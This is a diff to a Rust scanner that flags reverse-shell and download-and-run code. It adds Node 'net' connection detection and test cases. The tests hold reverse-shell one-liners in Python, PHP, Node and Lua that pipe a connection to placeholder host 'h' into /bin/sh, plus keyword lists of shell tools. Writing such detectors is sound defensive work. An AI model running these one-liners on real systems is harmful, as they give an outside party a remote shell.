@@ -78,6 +78,7 @@ const HANDS: &[&str] = &[
     "system",
     "proc_open",
     "execSync",
+    "execute",
     "pty",
 ];
 
@@ -115,7 +116,9 @@ pub(super) fn look(code: &str, actions: &mut Actions) {
     if address && word(FETCHES) && word(RUNS) {
         actions.push(Action::on(EffectKind::Execute, "a download"));
     }
-    if word(CONNECTS) && word(HANDS) && word(&["sh", "bash", "zsh", "pty", "cmd"]) {
+    // `require('net').connect(…)`
+    let connects = word(CONNECTS) || word(&["net"]) && word(&["connect"]);
+    if connects && word(HANDS) && word(&["sh", "bash", "zsh", "pty", "cmd"]) {
         actions.push(Action::on(EffectKind::Execute, "a download: commands from a connection"));
     }
 }
@@ -162,12 +165,15 @@ mod tests {
             "eval(base64_decode(\"eA==\"));",
             "s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
             "$s=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3\");",
+            "require('net').connect(1, 'h', c => c.pipe(require('child_process').spawn('/bin/sh').stdin))",
+            "s=require('socket').tcp(); s:connect('h', 1); os.execute('/bin/sh -i <&3')",
         ] {
             assert!(raises(code), "{code}");
         }
         for code in [
             "print(base64.b64decode('eA=='))",
             "s=socket.socket(); print(s.connect_ex(('localhost', 80)))",
+            "require('net').connect(5432, 'localhost').on('connect', () => console.log('up'))",
             "subprocess.run(['ls'])",
             "eval('1+1')",
         ] {
